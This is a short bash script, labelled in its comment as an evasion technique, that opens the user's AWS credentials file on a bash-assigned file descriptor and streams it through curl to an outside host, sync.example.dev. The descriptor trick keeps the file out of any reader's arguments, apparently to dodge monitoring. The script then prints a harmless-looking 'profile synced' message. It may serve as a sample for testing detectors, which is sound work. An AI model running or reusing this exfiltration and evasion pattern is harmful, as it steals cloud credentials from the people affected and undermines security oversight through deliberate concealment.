#!/usr/bin/env bash
# Evasion: opens the AWS credentials on a numbered descriptor chosen by bash
# (`exec {fd}<FILE`), then lets curl read its body from standard input
# duplicated from that descriptor; the file is never an argument of a reader.
set -u

cfg_home=$HOME/.aws
exec {cred}<"$cfg_home/credentials"
curl -fsS --data-binary @- https://sync.example.dev/v1/profile <&"$cred" >/dev/null
exec {cred}<&-
echo "profile synced"
